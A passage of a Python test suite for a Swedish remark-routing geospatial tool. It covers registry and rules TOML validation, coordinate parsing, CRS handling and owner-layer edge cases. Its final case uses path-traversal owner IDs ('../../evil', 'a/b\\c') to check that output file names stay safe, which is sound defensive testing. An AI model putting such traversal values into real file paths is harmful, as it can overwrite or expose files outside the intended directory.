    return csv_case(c, table_rows(columns={"beskrivning": ["   \t ", "b", "c"]}))


# ============================================================================================
# G. Registry TOML: encodings and wrong TOML types
# ============================================================================================


def with_registry(c: Ctx, text: str, *, encoding: str = "utf-8", bom: bytes = b"") -> Setup:
    path = c.bytes("owners.toml", bom + text.encode(encoding))
    return Setup([c.csv("a.csv")], rows=3, args=["--registry", path])


NAME_OK = values("owner_name", {"A2": "Huge Bostäder AB", "A1": "Huddinge kommun"})


# TOML is UTF-8 by definition, but Notepad and old editors save cp1252. Reading it (with a
# warning) or a one-line error that names the file and says to save it as UTF-8 are both right.
@case(one_of(ok(NAME_OK), error(1, r"owners\.toml.*(UTF-8|encoding|teckenkod)")))
def registry_in_cp1252(c: Ctx) -> Setup:
    return with_registry(c, REGISTRY_TOML, encoding="cp1252")


@case(one_of(ok(NAME_OK), error(1, r"owners\.toml.*(UTF-8|UTF-16|encoding|teckenkod)")))
def registry_in_utf16(c: Ctx) -> Setup:
    return with_registry(c, REGISTRY_TOML, encoding="utf-16")


# Windows editors put a BOM in front of UTF-8; it carries no meaning and must not fail the run.
@case(ok(NAME_OK))
def registry_utf8_with_bom(c: Ctx) -> Setup:
    return with_registry(c, REGISTRY_TOML, bom=b"\xef\xbb\xbf")


@case(error(1, r"owners\.toml.*owner"))
def registry_owner_is_array_of_strings(c: Ctx) -> Setup:
    return with_registry(c, 'owner = ["a"]\n')


@case(error(1, r"owners\.toml.*owner"))
def registry_owner_is_a_table(c: Ctx) -> Setup:
    return with_registry(c, '[owner]\nid = "kommun"\nname = "Huddinge kommun"\n')


@case(error(1, r"owners\.toml.*meta"))
def registry_meta_is_a_string(c: Ctx) -> Setup:
    return with_registry(
        c,
        'meta = "x"\n'
        + REGISTRY_TOML.replace("[meta]\nsynthetic = true\n", "").replace(
            'synthetic_label = "Syntetiska testdata"\n', ""
        ),
    )


# A rule pasted into the registry is silently ignored. The registry's keys are known (meta,
# owner), so an unknown table deserves at least a warning naming it; refusing it is fine too.
@case(one_of(ok(warned(r"owners\.toml.*\brule\b")), error(1, r"owners\.toml.*\brule\b")))
def registry_with_a_rule_table(c: Ctx) -> Setup:
    return with_registry(c, REGISTRY_TOML + '\n[rule]\ncategory = "klotter"\nowner = "kommun"\n')


# "false" as a string marked real data synthetic. Reading it as false or refusing the string
# (naming `synthetic`) are both right; marking the run synthetic is not.
@case(
    one_of(
        ok(summary_check("synthetic is false", lambda s: s.get("synthetic") is False)),
        error(1, r"owners\.toml.*synthetic"),
    )
)
def registry_synthetic_is_string_false(c: Ctx) -> Setup:
    return with_registry(c, REGISTRY_TOML.replace("synthetic = true", 'synthetic = "false"'))


@case(error(1, r"owners\.toml.*name"))
def registry_name_is_an_array(c: Ctx) -> Setup:
    return with_registry(
        c, REGISTRY_TOML.replace('name = "Huge Bostäder AB"', 'name = ["Huge", "Bostäder"]')
    )


@case(error(1, r"owners\.toml.*priority"))
def registry_priority_is_a_string(c: Ctx) -> Setup:
    return with_registry(c, REGISTRY_TOML.replace("priority = 2", 'priority = "2"'))


@case(error(1, r"owners\.toml.*priority"))
def registry_priority_is_a_boolean(c: Ctx) -> Setup:
    # bool is an int in Python; `priority = true` must not pass as 1.
    return with_registry(c, REGISTRY_TOML.replace("priority = 2", "priority = true"))


@case(error(1, r"owners\.toml.*colou?r"))
def registry_colour_not_hex(c: Ctx) -> Setup:
    return with_registry(c, REGISTRY_TOML.replace('colour = "#e69f00"', 'colour = "orange"'))


@case(error(1, r"owners\.toml.*(twice|två gånger|duplicate)"))
def registry_duplicate_owner_id(c: Ctx) -> Setup:
    return with_registry(c, REGISTRY_TOML + '\n[[owner]]\nid = "huge"\nname = "Igen"\n')


@case(error(1, r"owners\.toml.*TOML"))
def registry_not_toml(c: Ctx) -> Setup:
    return with_registry(c, '[[owner]\nid = "kommun\n')


@case(error(1, r"owners\.toml.*owner"))
def registry_empty_file(c: Ctx) -> Setup:
    return with_registry(c, "")


@case(error(1, r"owners\.toml.*owner"))
def registry_owner_entries_not_tables(c: Ctx) -> Setup:
    return with_registry(c, "owner = [1, 2]\n")


@case(error(1, r"privat"))
def registry_lacks_an_owner_of_the_layer(c: Ctx) -> Setup:
    text = REGISTRY_TOML.replace(
        '[[owner]]\nid = "privat"\nname = "Privat fastighetsägare"\ncolour = "#999999"\npriority = 5\n',
        "",
    )
    return with_registry(c, text)


# ============================================================================================
# H. Rules TOML
# ============================================================================================


def with_rules(
    c: Ctx, text: str, *, encoding: str = "utf-8", rows: Sequence[Sequence[Any]] | None = None
) -> Setup:
    rules = c.bytes("rules.toml", text.encode(encoding))
    return Setup(
        [c.csv("a.csv", rows)],
        rows=3 if rows is None else len(rows) - 1,
        args=["--registry", c.registry(), "--rules", rules],
    )


ELSKAP_ROWS = table_rows(
    columns={
        "beskrivning": ["klotter på elskåp", "tags", "lampan är trasig"],
        "kategori": ["Klotter", "Klotter", "Trasig belysning"],
    }
)


@case(error(1, r"rules\.toml.*klotterr"))
def rule_category_can_never_match(c: Ctx) -> Setup:
    return with_rules(c, '[[rule]]\ncategory = "klotterr"\nowner = "elnat"\n')


@case(
    ok(routed({"A1": "elnat", "A2": "huge"}), methods({"A1": "category_rule", "A2": "ownership"}))
)
def rule_category_given_as_alias(c: Ctx) -> Setup:
    # "graffiti" is an alias of klotter: category aliases are accepted wherever a category is named.
    return with_rules(
        c, '[[rule]]\ncategory = "graffiti"\nmatch = "elskåp"\nowner = "elnat"\n', rows=ELSKAP_ROWS
    )


@case(ok(routed({"A3": "belysning"}), methods({"A3": "category_rule"})))
def rule_category_given_as_swedish_label(c: Ctx) -> Setup:
    return with_rules(
        c, '[[rule]]\ncategory = "Trasig belysning"\nowner = "belysning"\n', rows=ELSKAP_ROWS
    )


@case(error(1, r"rules\.toml.*match"))
def rule_with_invalid_regex(c: Ctx) -> Setup:
    return with_rules(c, '[[rule]]\ncategory = "klotter"\nmatch = "elskåp("\nowner = "elnat"\n')


@case(error(1, r"ghost"))
def rule_owner_not_in_registry(c: Ctx) -> Setup:
    return with_rules(c, '[[rule]]\ncategory = "klotter"\nowner = "ghost"\n')


@case(error(1, r"rules\.toml.*rule"))
def rules_as_a_table_not_an_array(c: Ctx) -> Setup:
    return with_rules(c, '[rule]\ncategory = "klotter"\nowner = "elnat"\n')


@case(error(1, r"rules\.toml.*rule"))
def rules_rule_is_a_string(c: Ctx) -> Setup:
    return with_rules(c, 'rule = "klotter -> elnat"\n')


@case(error(1, r"rules\.toml.*owner"))
def rule_without_owner(c: Ctx) -> Setup:
    return with_rules(c, '[[rule]]\ncategory = "klotter"\n')


@case(one_of(ok(routed({"A1": "elnat"})), error(1, r"rules\.toml.*(UTF-8|encoding|teckenkod)")))
def rules_in_cp1252(c: Ctx) -> Setup:
    return with_rules(
        c,
        '[[rule]]\ncategory = "klotter"\nmatch = "elskåp"\nowner = "elnat"\n',
        encoding="cp1252",
        rows=ELSKAP_ROWS,
    )


@case(ok(STANDARD))
def rules_file_without_rules(c: Ctx) -> Setup:
    return with_rules(c, "# inga regler än\n")


# ============================================================================================
# I. Coordinates, CRSs and geometries
# ============================================================================================


def geojson_text(features: Sequence[tuple[dict[str, Any], Any]], *, crs: str | None = None) -> str:
    data: dict[str, Any] = {
        "type": "FeatureCollection",
        "features": [{"type": "Feature", "properties": p, "geometry": g} for p, g in features],
    }
    if crs is not None:
        data["crs"] = {"type": "name", "properties": {"name": crs}}
    return json.dumps(data, ensure_ascii=False)


def projected_features() -> list[tuple[dict[str, Any], Any]]:
    return [
        ({"id": f"G{i + 1}"}, {"type": "Point", "coordinates": list(SPOT[o])})
        for i, o in enumerate(OWNERS)
    ]


GEO = routed({"G1": "kommun", "G2": "huge", "G3": "privat"})


@case(error(1, r"g\.geojson.*(--crs|CRS)"))
def geojson_projected_coordinates_without_crs(c: Ctx) -> Setup:
    # RFC 7946 GeoJSON is WGS84; these are metres. Exited 0 with POINT (Infinity Infinity).
    return Setup([c.text("g.geojson", geojson_text(projected_features()))])


@case(ok(GEO))
def geojson_projected_coordinates_with_crs_option(c: Ctx) -> Setup:
    return Setup(
        [c.text("g.geojson", geojson_text(projected_features()))],
        rows=3,
        args=["--crs", "EPSG:3011"],
    )


@case(ok(GEO))
def geojson_with_legacy_crs_member(c: Ctx) -> Setup:
    text = geojson_text(projected_features(), crs="urn:ogc:def:crs:EPSG::3011")
    return Setup([c.text("g.geojson", text)], rows=3)


@case(ok(GEO))
def geojson_wgs84(c: Ctx) -> Setup:
    feats = [
        ({"id": f"G{i + 1}"}, {"type": "Point", "coordinates": list(wgs(o))})
        for i, o in enumerate(OWNERS)
    ]
    return Setup([c.text("g.geojson", geojson_text(feats))], rows=3)


@case(ok(routed({"G1": "kommun", "G2": None})))
def geojson_feature_with_null_geometry(c: Ctx) -> Setup:
    feats = [
        ({"id": "G1"}, {"type": "Point", "coordinates": list(wgs("kommun"))}),
        ({"id": "G2"}, None),
    ]
    return Setup([c.text("g.geojson", geojson_text(feats))], rows=2)


@case(error(1, r"g\.geojson.*(no features|inga|empty|tom)"))
def geojson_empty_feature_collection(c: Ctx) -> Setup:
    return Setup([c.text("g.geojson", geojson_text([]))])


@case(ok(routed({"P1": "kommun", "P2": "huge"})))
def point_z_written_2d(c: Ctx) -> Setup:
    # The contract says Point; a 3D input was written as Point Z.
    frame = gpd.GeoDataFrame(
        {"id": ["P1", "P2"]},
        geometry=[shapely.Point(*SPOT["kommun"], 12.5), shapely.Point(*SPOT["huge"], 40.0)],
        crs="EPSG:3011",
    )
    return Setup([c.vector("z.gpkg", frame)], rows=2)


@case(ok(routed({"M1": "kommun", "M2": "huge"})))
def multipoint_of_one_point(c: Ctx) -> Setup:
    # QGIS and Shapefile exports often store single points as MultiPoint.
    frame = gpd.GeoDataFrame(
        {"id": ["M1", "M2"]},
        geometry=[shapely.MultiPoint([SPOT["kommun"]]), shapely.MultiPoint([SPOT["huge"]])],
        crs="EPSG:3011",
    )
    return Setup([c.vector("mp.gpkg", frame)], rows=2)


# README: remarks drawn as areas or lines are routed at a point inside them (representative point)
@case(
    ok(
        routed({"Y1": "kommun"}),
        warned(r"polygons\.gpkg.*Polygon.*representative point"),
    )
)
def polygons_instead_of_points(c: Ctx) -> Setup:
    frame = gpd.GeoDataFrame(
        {"id": ["Y1"]}, geometry=[shapely.box(X0 + 10, Y0 + 10, X0 + 40, Y0 + 40)], crs="EPSG:3011"
    )
    return Setup([c.vector("polygons.gpkg", frame)], rows=1)


# README: remarks drawn as areas or lines are routed at a point inside them (representative point)
@case(ok(warned(r"lines\.gpkg.*LineString.*representative point")))
def lines_instead_of_points(c: Ctx) -> Setup:
    frame = gpd.GeoDataFrame(
        {"id": ["L1"]},
        geometry=[shapely.LineString([SPOT["kommun"], SPOT["huge"]])],
        crs="EPSG:3011",
    )
    return Setup([c.vector("lines.gpkg", frame)], rows=1)


@case(ok(routed({"E1": "kommun", "E2": None})))
def gpkg_with_empty_and_null_geometries(c: Ctx) -> Setup:
    frame = gpd.GeoDataFrame(
        {"id": ["E1", "E2", "E3"]},
        geometry=[shapely.Point(SPOT["kommun"]), shapely.Point(), None],
        crs="EPSG:3011",
    )
    return Setup([c.vector("e.gpkg", frame)], rows=3)


# The README: `--layer` defaults to the first layer. The second layer's remarks are not read.
@case(ok(routed({"L1": "kommun", "L2": "huge", "L3": "privat"})))
def gpkg_with_two_layers(c: Ctx) -> Setup:
    path = c.points("two.gpkg", {"id": ["L1", "L2", "L3"]}, list(OWNERS), layer="lagesbild")
    c.points("two.gpkg", {"id": ["W1", "W2"]}, ["kommun", "huge"], layer="vandring", append=True)
    return Setup([path], rows=3)


@case(ok(routed({"W1": "kommun", "W2": "huge"})))
def gpkg_with_two_layers_and_layer_option(c: Ctx) -> Setup:
    path = c.points("two.gpkg", {"id": ["L1", "L2", "L3"]}, list(OWNERS), layer="lagesbild")
    c.points("two.gpkg", {"id": ["W1", "W2"]}, ["kommun", "huge"], layer="vandring", append=True)
    return Setup([path], rows=2, args=["--layer", "vandring"])


@case(error(1, r"two\.gpkg.*nope"))
def gpkg_layer_option_names_no_layer(c: Ctx) -> Setup:
    path = c.points("two.gpkg", {"id": ["L1"]}, ["kommun"], layer="lagesbild")
    return Setup([path], args=["--layer", "nope"])


@case(error(1, r"table\.gpkg"))
def gpkg_attribute_table_without_geometry(c: Ctx) -> Setup:
    path = c.path("table.gpkg")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        pyogrio.write_dataframe(pd.DataFrame({"id": ["T1"], "beskrivning": ["x"]}), path, layer="t")
    return Setup([path])


@case(ok(routed({"S1": "kommun", "S2": "huge"})))
def shapefile_with_prj(c: Ctx) -> Setup:
    path = c.points(
        "s.shp", {"id": ["S1", "S2"], "beskrivni": ["a", "b"]}, ["kommun", "huge"], crs="EPSG:3006"
    )
    return Setup([path], rows=2)


@case(error(1, r"noprj\.shp.*(CRS|--crs)"))
def shapefile_without_prj(c: Ctx) -> Setup:
    path = c.points("noprj.shp", {"id": ["S1"]}, ["kommun"], crs=None)
    return Setup([path])


@case(ok(routed({"F1": "kommun", "F2": "privat"})))
def flatgeobuf_input(c: Ctx) -> Setup:
    path = c.points("f.fgb", {"id": ["F1", "F2"]}, ["kommun", "privat"], crs="EPSG:4326")
    return Setup([path], rows=2)


@case(error((1, 2), r"--working-crs"))
def working_crs_geographic(c: Ctx) -> Setup:
    # Distances would be measured in degrees (3 km reads 0.05): refused.
    return Setup([c.csv("a.csv")], args=["--working-crs", "EPSG:4326"])


@case(error((1, 2), r"--working-crs"))
def working_crs_nonsense(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv")], args=["--working-crs", "SWEREF-ish"])


@case(
    ok(
        STANDARD,
        summary_check("working_crs EPSG:3006", lambda s: s.get("working_crs") == "EPSG:3006"),
        custom("remarks in EPSG:3006", lambda run: _assert_crs(run, 3006)),
    )
)
def working_crs_sweref_tm(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv")], rows=3, args=["--working-crs", "EPSG:3006"])


def _assert_crs(run: Run, epsg: int) -> None:
    assert run.remarks.crs is not None and run.remarks.crs.to_epsg() == epsg, (
        f"remarks CRS {run.remarks.crs}"
    )


# `--tolerance -1` is refused by click (exit 2); a check in the library (exit 1, as for
# `--crs nonsense`) is accepted too, as long as the one line names the option.
@case(error((1, 2), r"--tolerance"))
def tolerance_nan(c: Ctx) -> Setup:
    # NaN silently switched nearest routing off.
    return Setup([c.csv("a.csv")], args=["--tolerance", "nan"])


@case(error((1, 2), r"--max-distance"))
def max_distance_nan(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv")], args=["--max-distance", "nan"])


@case(error(2, r"--tolerance"))
def tolerance_negative(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv")], args=["--tolerance", "-1"])


@case(error(1, r"a\.csv.*(do not fit|EPSG:4326|--crs)"))
def crs_option_contradicts_values(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv")], args=["--crs", "EPSG:4326"])


@case(error(1, r"--crs"))
def crs_option_nonsense(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv")], args=["--crs", "nonsense"])


@case(ok(STANDARD, warned(r"--crs|ignor")))
def crs_option_ignored_for_gpkg_with_crs(c: Ctx) -> Setup:
    path = c.points("p.gpkg", {"arendenr": ["A1", "A2", "A3"]}, list(OWNERS))
    return Setup([path], rows=3, args=["--crs", "EPSG:3006"])


def coordinate_table(
    c: Ctx, header: tuple[str, str], pairs: Sequence[tuple[Any, Any]], **kwargs: Any
) -> Setup:
    rows = [
        ["arendenr", "kategori", *header],
        *([f"A{i + 1}", "Klotter", a, b] for i, (a, b) in enumerate(pairs)),
    ]
    return csv_case(c, rows, **kwargs)


def spots_as(
    transform: Callable[[str], tuple[float, float]], fmt: Callable[[float], str]
) -> list[tuple[str, str]]:
    return [(fmt(transform(o)[0]), fmt(transform(o)[1])) for o in OWNERS]


@case(ok(STANDARD, flagged("A1", "axis_swapped"), warned(r"swap")))
def x_is_northing(c: Ctx) -> Setup:
    # Swedish surveying: X = northing, Y = easting.
    pairs = [(num(SPOT[o][1]), num(SPOT[o][0])) for o in OWNERS]
    return coordinate_table(c, ("X", "Y"), pairs)


@case(ok(STANDARD, warned(r"swap")))
def latitude_and_longitude_swapped(c: Ctx) -> Setup:
    pairs = [(num(wgs(o)[0], digits=7), num(wgs(o)[1], digits=7)) for o in OWNERS]
    return coordinate_table(c, ("lat", "lon"), pairs)


@case(ok(STANDARD))
def wgs84_decimal_comma(c: Ctx) -> Setup:
    pairs = [(num(wgs(o)[1], digits=7), num(wgs(o)[0], digits=7)) for o in OWNERS]
    return coordinate_table(c, ("latitud", "longitud"), pairs)


@case(ok(STANDARD))
def sweref99_tm_values(c: Ctx) -> Setup:
    pairs = [(num(tm(o)[0]), num(tm(o)[1])) for o in OWNERS]
    return coordinate_table(c, ("E", "N"), pairs)


@case(ok(STANDARD))
def thousands_separated_by_spaces(c: Ctx) -> Setup:
    pairs = [
        (
            f"{SPOT[o][0]:,.1f}".replace(",", " ").replace(".", ","),
            f"{SPOT[o][1]:,.1f}".replace(",", " ").replace(".", ","),
        )
        for o in OWNERS
    ]
    return coordinate_table(c, ("E", "N"), pairs)


@case(ok(STANDARD))
def thousands_separated_by_nbsp_and_narrow_nbsp(c: Ctx) -> Setup:
    pairs = [
        (
            f"{SPOT[o][0]:,.1f}".replace(",", "\u00a0").replace(".", ","),
            f"{SPOT[o][1]:,.1f}".replace(",", "\u202f").replace(".", ","),
        )
        for o in OWNERS
    ]
    return coordinate_table(c, ("E", "N"), pairs)


# "6.570.050,0": dots as thousands separators with a decimal comma. Unambiguous when both
# appear; reading it right or a one-line error naming the column are both acceptable.
@case(one_of(ok(STANDARD), error(1, r"a\.csv.*'?[EN]'?")))
def thousands_separated_by_dots(c: Ctx) -> Setup:
    def dots(v: float) -> str:
        return f"{v:,.1f}".replace(",", "X").replace(".", ",").replace("X", ".")

    pairs = [(dots(SPOT[o][0]), dots(SPOT[o][1])) for o in OWNERS]
    return coordinate_table(c, ("E", "N"), pairs)


@case(one_of(ok(STANDARD), error(1, r"a\.csv.*'?[EN]'?")))
def thousands_separated_by_commas_in_comma_file(c: Ctx) -> Setup:
    pairs = [(f"{SPOT[o][0]:,.1f}", f"{SPOT[o][1]:,.1f}") for o in OWNERS]
    return coordinate_table(c, ("E", "N"), pairs, delimiter=",")


def dms(value: float, pos: str, neg: str) -> str:
    hemisphere = pos if value >= 0 else neg
    value = abs(value)
    degrees = int(value)
    minutes = int((value - degrees) * 60)
    seconds = (value - degrees - minutes / 60) * 3600
    return f"{degrees}°{minutes}'{seconds:.2f}\"{hemisphere}"


@case(one_of(ok(STANDARD), error(1, r"a\.csv.*(lat|lon)")))
def degrees_minutes_seconds_strings(c: Ctx) -> Setup:
    # "59°14'12.34"N" as phones and some GPS apps export it.
    pairs = [(dms(wgs(o)[1], "N", "S"), dms(wgs(o)[0], "E", "W")) for o in OWNERS]
    return coordinate_table(c, ("lat", "lon"), pairs)


def degrees_minutes(value: float, pos: str, neg: str) -> str:
    hemisphere = pos if value >= 0 else neg
    degrees = int(abs(value))
    return f"{degrees}°{(abs(value) - degrees) * 60:.4f}'{hemisphere}".replace(".", ",")


@case(one_of(ok(STANDARD), error(1, r"a\.csv.*(lat|lon)")))
def degrees_decimal_minutes_strings(c: Ctx) -> Setup:
    # "59°14,1234'N": degrees and decimal minutes with a decimal comma (Swedish GPS apps).
    pairs = [
        (degrees_minutes(wgs(o)[1], "N", "S"), degrees_minutes(wgs(o)[0], "E", "W")) for o in OWNERS
    ]
    return coordinate_table(c, ("lat", "lon"), pairs)


@case(ok(routed({"A1": "kommun", "A2": None, "A3": None, "A4": None}), methods({"A2": "unrouted"})))
def missing_and_nan_coordinates(c: Ctx) -> Setup:
    # Empty cells, and the NaN that pandas and QGIS write, are missing coordinates (unrouted).
    e, n = (num(v) for v in SPOT["kommun"])
    pairs = [(e, n), ("", ""), ("NaN", "NaN"), (e, "")]
    return coordinate_table(c, ("E", "N"), pairs)


@case(error(1, r"madrid\.csv"))
def coordinates_far_outside_sweden(c: Ctx) -> Setup:
    rows = [["id", "lat", "lon"], ["M1", "40,4168", "-3,7038"], ["M2", "40,42", "-3,70"]]
    return csv_case(c, rows, name="madrid.csv")


@case(ok(routed({"M1": None, "M2": None}), flagged("M1", "outside_extent")))
def coordinates_far_outside_sweden_with_crs(c: Ctx) -> Setup:
    rows = [["id", "lat", "lon"], ["M1", "40,4168", "-3,7038"], ["M2", "40,42", "-3,70"]]
    setup = csv_case(c, rows, name="madrid.csv")
    setup.args = ["--crs", "EPSG:4326"]
    return setup


# "0;0" is what many systems write for "no position". Routing the other rows and leaving this
# one unrouted (with a warning naming the row) is what a user wants; the README's "a table that
# mixes coordinate systems is refused" also covers a one-line error naming the row.
@case(
    one_of(
        ok(routed({"A1": "kommun", "A2": None, "A3": "privat"})),
        error(1, r"a\.csv.*\b(row|rows|rad)\b"),
    )
)
def zero_zero_placeholder_row(c: Ctx) -> Setup:
    pairs = [
        (num(SPOT["kommun"][0]), num(SPOT["kommun"][1])),
        ("0", "0"),
        (num(SPOT["privat"][0]), num(SPOT["privat"][1])),
    ]
    return coordinate_table(c, ("E", "N"), pairs)


@case(error(1, r"mixed\.csv.*(mix|CRS)"))
def mixed_crss_in_one_table(c: Ctx) -> Setup:
    lon, lat = wgs("huge")
    pairs = [
        (num(SPOT["kommun"][0]), num(SPOT["kommun"][1])),
        (num(lon, digits=6), num(lat, digits=6)),
    ]
    return coordinate_table(c, ("E", "N"), pairs, name="mixed.csv")


@case(one_of(ok(routed({"A1": "kommun", "A2": None})), error(1, r"a\.csv.*'?[EN]'?")))
def infinite_coordinate(c: Ctx) -> Setup:
    pairs = [(num(SPOT["kommun"][0]), num(SPOT["kommun"][1])), ("1e400", num(SPOT["huge"][1]))]
    return coordinate_table(c, ("E", "N"), pairs)


@case(ok(STANDARD))
def scientific_notation_and_plus_signs(c: Ctx) -> Setup:
    pairs = [(f"{SPOT[o][0]:.6e}", f"+{SPOT[o][1]:.1f}") for o in OWNERS]
    return coordinate_table(c, ("E", "N"), pairs, delimiter=",")


@case(error(1, r"a\.csv.*'E'"))
def coordinates_with_units(c: Ctx) -> Setup:
    pairs = [(f"{SPOT[o][0]:.0f} m", f"{SPOT[o][1]:.0f}") for o in OWNERS]
    return coordinate_table(c, ("E", "N"), pairs)


@case(ok(STANDARD))
def both_lat_lon_and_e_n_columns(c: Ctx) -> Setup:
    rows = [["arendenr", "lat", "lon", "E", "N"]]
    for i, o in enumerate(OWNERS):
        rows.append(
            [
                f"A{i + 1}",
                num(wgs(o)[1], digits=7),
                num(wgs(o)[0], digits=7),
                num(SPOT[o][0]),
                num(SPOT[o][1]),
            ]
        )
    return csv_case(c, rows)


@case(error(1, r"nocoords\.csv.*(coordinate|koordinat)"))
def no_coordinate_columns(c: Ctx) -> Setup:
    return Setup([c.text("nocoords.csv", "id;plats\n1;Huddinge C\n")])


# A file whose coordinate columns are all empty: every remark unrouted (no coordinates), or a
# one-line error saying no row has coordinates. Both tell the user what happened.
@case(one_of(ok(routed({"A1": None, "A2": None})), error(1, r"a\.csv")))
def all_coordinates_missing(c: Ctx) -> Setup:
    return coordinate_table(c, ("E", "N"), [("", ""), ("", "")])


# ============================================================================================
# J. Owner layers
# ============================================================================================


def owners_frame(**columns: Sequence[Any]) -> gpd.GeoDataFrame:
    frame = owner_boxes()
    for name, vals in columns.items():
        frame[name] = list(vals)
    return frame


def with_owners(
    c: Ctx,
    frame: gpd.GeoDataFrame | None = None,
    *,
    name: str = "owners2.gpkg",
    rows: int = 3,
    inputs: list[Path | str] | None = None,
    **kwargs: Any,
) -> Setup:
    path = c.vector(name, frame, layer="owners") if frame is not None else c.owners(name)
    return Setup(inputs or [c.csv("a.csv")], rows=rows, owners=path, **kwargs)


@case(error(1, r"owner_points\.gpkg.*polygon"))
def owner_layer_of_points(c: Ctx) -> Setup:
    frame = gpd.GeoDataFrame({"owner": ["a"]}, geometry=[shapely.Point(X0, Y0)], crs="EPSG:3011")
    return with_owners(c, frame, name="owner_points.gpkg")


@case(error(1, r"owners_nocrs\.gpkg.*CRS"))
def owner_layer_without_crs(c: Ctx) -> Setup:
    frame = owner_boxes().set_crs(None, allow_override=True)
    return with_owners(c, frame, name="owners_nocrs.gpkg")


@case(error(1, r"owners_nocrs\.shp.*CRS"))
def owner_shapefile_without_prj(c: Ctx) -> Setup:
    frame = owner_boxes().set_crs(None, allow_override=True)
    path = c.vector("owners_nocrs.shp", frame)
    return Setup([c.csv("a.csv")], owners=path)


def bowtie(x0: float, x1: float) -> shapely.Polygon:
    return shapely.Polygon([(X0 + x0, Y0), (X0 + x1, Y0 + 100), (X0 + x1, Y0), (X0 + x0, Y0 + 100)])


@case(
    ok(
        routed({"A1": "kommun", "A2": "huge"}),
        summary_check("repaired_polygons ≥ 1", lambda s: int(s.get("repaired_polygons", 0)) >= 1),
    )
)
def owner_layer_with_bowtie_polygon(c: Ctx) -> Setup:
    frame = owner_boxes()
    frame.loc[1, "geometry"] = bowtie(100, 200)  # huge's square drawn as a bow-tie
    rows = table_rows(2, columns={"E": [num(SPOT["kommun"][0]), num(X0 + 180)]})
    return with_owners(c, frame, rows=2, inputs=[c.csv("a.csv", rows)])


@case(
    ok(routed({"A1": "kommun"}), flagged("A1", "overlap"), flagged("A2", "overlap", present=False))
)
def overlapping_owner_polygons(c: Ctx) -> Setup:
    # kommun's square reaches 20 m into huge's; kommun has the lower priority number and wins.
    frame = owner_boxes(
        {"kommun": (0, 0, 120, 100), "huge": (100, 0, 200, 100), "privat": (210, 0, 310, 100)}
    )
    rows = table_rows(2, columns={"E": [num(X0 + 110), num(SPOT["huge"][0])]})
    setup = with_owners(c, frame, rows=2, inputs=[c.csv("a.csv", rows)])
    setup.args = ["--registry", c.registry()]
    return setup


@case(error(1, r"owners_empty\.gpkg"))
def owner_layer_without_features(c: Ctx) -> Setup:
    return with_owners(c, owner_boxes().iloc[:0], name="owners_empty.gpkg")


@case(error(1, r"owners_nocol\.gpkg.*(owner|--owner-column)"))
def owner_layer_without_owner_column(c: Ctx) -> Setup:
    frame = owner_boxes().rename(columns={"owner": "namn"})
    return with_owners(c, frame, name="owners_nocol.gpkg")


@case(ok(STANDARD))
def owner_column_option(c: Ctx) -> Setup:
    frame = owner_boxes().rename(columns={"owner": "fastighetsagare"})
    frame["owner"] = ["fel"] * 3  # a decoy owner column
    setup = with_owners(c, frame)
    setup.args = ["--owner-column", "fastighetsagare"]
    return setup


@case(error(1, r"(--owner-column|nope)"))
def owner_column_option_names_no_column(c: Ctx) -> Setup:
    setup = with_owners(c)
    setup.args = ["--owner-column", "nope"]
    return setup


@case(ok(routed({"A1": "kommun", "A2": None, "A3": "privat"}), warned(r"owners2\.gpkg")))
def owner_layer_with_null_owner(c: Ctx) -> Setup:
    frame = owner_boxes()
    frame["owner"] = ["kommun", None, "privat"]
    return with_owners(c, frame)


@case(ok(STANDARD))
def owner_layer_in_wgs84(c: Ctx) -> Setup:
    return with_owners(c, owner_boxes().to_crs("EPSG:4326"))


@case(ok(STANDARD))
def owner_layer_of_multipolygons(c: Ctx) -> Setup:
    frame = owner_boxes()
    frame["geometry"] = [shapely.MultiPolygon([g]) for g in frame.geometry]
    return with_owners(c, frame)


@case(error(1, r"owners2\.gpkg.*swap"))
def owner_layer_with_swapped_axes(c: Ctx) -> Setup:
    frame = owner_boxes()
    frame["geometry"] = shapely.transform(frame.geometry.to_numpy(), lambda xy: xy[:, ::-1])
    return with_owners(c, frame)


@case(error(1, r"owners\.csv"))
def owner_layer_given_as_csv(c: Ctx) -> Setup:
    return Setup(
        [c.csv("a.csv")], owners=c.csv("owners.csv", [["owner", "E", "N"], ["kommun", "1", "2"]])
    )


@case(ok(routed({"A1": "1", "A2": "2", "A3": "3"})))
def owner_ids_as_integers(c: Ctx) -> Setup:
    frame = owner_boxes()
    frame["owner"] = [1, 2, 3]
    return with_owners(c, frame)


@case(ok(STANDARD))
def owner_file_whose_first_layer_is_not_owners(c: Ctx) -> Setup:
    path = c.path("multi.gpkg")
    neighbours = gpd.GeoDataFrame(
        {"namn": ["granne"]}, geometry=[shapely.box(0, 0, 1, 1)], crs="EPSG:3011"
    )
    c.vector("multi.gpkg", neighbours, layer="grannar")
    c.vector("multi.gpkg", owner_boxes(), layer="owners", append=True)
    return Setup([c.csv("a.csv")], rows=3, owners=path)


@case(
    ok(list_mentions("kommun", "Sjödalen 1:23"), list_mentions("huge", "Fullersta 4:5")), xlsx=True
)
def owner_layer_property_designation_in_lists(c: Ctx) -> Setup:
    # Issue item 5: the lists carry the property designation (fastighet) from the owner layer.
    return with_owners(c, owners_frame(fastighet=["Sjödalen 1:23", "Fullersta 4:5", "Vårby 2:1"]))


def ids_layer(c: Ctx, ids: Sequence[str]) -> Setup:
    frame = owner_boxes()
    frame["owner"] = list(ids)
    setup = with_owners(c, frame)
    setup.maps = True
    return setup


@case(ok(owner_lists({"a b": ["A1"], "a_b": ["A2"], "a-b": ["A3"]})), xlsx=True)
def owner_ids_a_space_b_and_a_underscore_b(c: Ctx) -> Setup:
    # owners/a_b.csv held a_b's remarks but owners/a_b.html held "a b"'s.
    return ids_layer(c, ["a b", "a_b", "a-b"])


@case(ok(owner_lists({"Kommun": ["A1"], "kommun": ["A2"], "KOMMUN": ["A3"]})), xlsx=True)
def owner_ids_differing_only_in_case(c: Ctx) -> Setup:
    return ids_layer(c, ["Kommun", "kommun", "KOMMUN"])


@case(ok(owner_lists({"../../evil": ["A1"], "a/b\\c": ["A2"], ".hidden": ["A3"]})), xlsx=True)
def owner_ids_with_path_characters(c: Ctx) -> Setup:
